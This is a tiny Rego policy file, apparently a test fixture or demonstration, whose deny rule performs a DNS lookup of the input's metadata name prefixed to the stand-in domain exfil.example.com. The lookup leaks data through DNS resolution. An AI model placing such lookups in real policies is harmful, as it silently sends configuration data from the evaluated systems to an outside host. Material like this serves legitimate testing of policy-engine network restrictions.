package main

import rego.v1

deny contains msg if {
	addrs := net.lookup_ip_addr(sprintf("%s.exfil.example.com", [input.metadata.name]))
	count(addrs) > 0
	msg := "resolved"
}
